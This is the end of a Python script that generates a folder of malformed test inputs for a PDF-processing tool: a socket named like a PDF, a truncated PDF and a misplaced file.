        server.bind(os.path.relpath(root / DLH / "soket.pdf"))  # AF_UNIX takes 108 bytes at most
    finally:
        server.close()
    made[f"{DLH}/soket.pdf"] = "socket-named-pdf"

    put("Perbup lepas.pdf", "root-level-file", sound_pdf[:half])
    put(f"{OTHER}/dokumen.pdf", "unresolved-folder", sound_pdf)
    return made


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python scripts/make_hostile.py DIR  (DIR must not exist)", file=sys.stderr)
        return 2
    root = Path(argv[0])
    if root.exists():
        print(f"{root} exists: give a new folder", file=sys.stderr)
        return 2
    made = build(root)
    kinds = sorted(set(made.values()))
    print(f"{len(made)} entries of {len(kinds)} kinds under {root}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
